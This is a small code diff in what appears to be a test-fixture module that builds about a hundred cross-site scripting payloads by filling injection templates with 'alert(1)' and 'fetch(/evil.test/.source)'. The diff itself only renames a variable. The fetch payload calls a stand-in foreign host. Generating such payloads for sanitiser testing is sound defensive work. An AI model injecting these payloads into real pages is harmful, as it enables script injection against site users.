@@ -55,7 +55,7 @@ const ways = [
 
 /** A hundred: each way leads to a dialog, and to a foreign server. */
 export const payloads = ways.flatMap((way) =>
-  ['alert(1)', 'fetch(/evil.test/.source)'].map((deed) => way.replaceAll('@', deed)),
+  ['alert(1)', 'fetch(/evil.test/.source)'].map((code) => way.replaceAll('@', code)),
 )
 
 /** As many of them as texts of at most `most` characters can hold, several in each; those that are longer are left out. */
